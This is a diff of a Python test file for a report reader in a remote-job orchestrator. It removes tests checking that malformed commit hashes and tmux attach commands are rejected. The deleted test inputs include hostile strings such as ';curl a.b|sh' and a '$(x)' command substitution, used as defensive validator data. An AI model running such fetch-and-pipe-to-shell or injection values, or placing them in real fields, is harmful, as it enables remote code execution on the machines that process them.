@@ -17,7 +17,6 @@ from orchestrator.box.reports import read_report, read_reports
 from orchestrator.box.transport import MAX_FRAME_BYTES, MAX_REPLY_VALUES, Frame, read_frames, read_reply
 from orchestrator.errors import AgentUnusable, HostUnreachable, OrchError, Refused, SpecError
 from orchestrator.ui import run_text, serialize
-from remote.contract.files import write_json
 from remote.contract.paths import RunPaths
 from remote.contract.protocol import STATES
 from remote.contract.run_report import RunReport, report
@@ -282,30 +281,3 @@ def test_refusal_instead_of_a_stream_is_raised() -> None:
 
 def test_list_of_reports_is_read() -> None:
     assert reports.read_reports("box", [GOOD]).runs[0].job == "worker1"
-
-
-@pytest.mark.parametrize("text", ["", ";curl a.b|sh", "0" * 6, "0" * 65, "HEAD", "0123456;x", "ABCDEF01"])
-def test_commit_that_is_not_a_hash_counts_as_missing(text: str) -> None:
-    found = read_report("box", {**GOOD, "code": {"tree": "0" * 64, "commit": text}})
-    assert (found.code.commit, found.code.tree) == (None, "0" * 64)
-    assert found.note == "box sent an invalid commit"
-
-
-@pytest.mark.parametrize("text", ["curl a.b|sh", "tmux -L a attach -t b; x", "tmux -L $(x) attach -t b", "tmux"])
-def test_command_to_attach_of_another_form_counts_as_missing(text: str) -> None:
-    found = read_report("box", {**GOOD, "attach": text})
-    assert (found.attach, found.note) == ("", "box sent an invalid attach")
-
-
-def test_usual_commit_and_command_to_attach_are_kept() -> None:
-    commit, attach = "0123456789abcdef0123456789abcdef01234567", "tmux -L orch-0a1b2c3d attach -t worker1-7f3a"
-    found = read_report("box", {**GOOD, "code": {"commit": commit}, "attach": attach})
-    assert (found.code.commit, found.attach, found.note) == (commit, attach, "")
-
-
-def test_commit_in_a_copied_run_json_that_is_not_a_hash_counts_as_missing(tmp_path: Path) -> None:
-    run = RunPaths(tmp_path / "train" / "20260126T210312-7f3a")
-    run.root.mkdir(parents=True)
-    write_json(run.run, {"code": {"tree": "0" * 64, "commit": ";curl a.b|sh"}, "attach": "curl a.b|sh"})
-    found = report(run, None, supervised=None)
-    assert (found.code.commit, found.attach, found.problem) == (None, "", "")
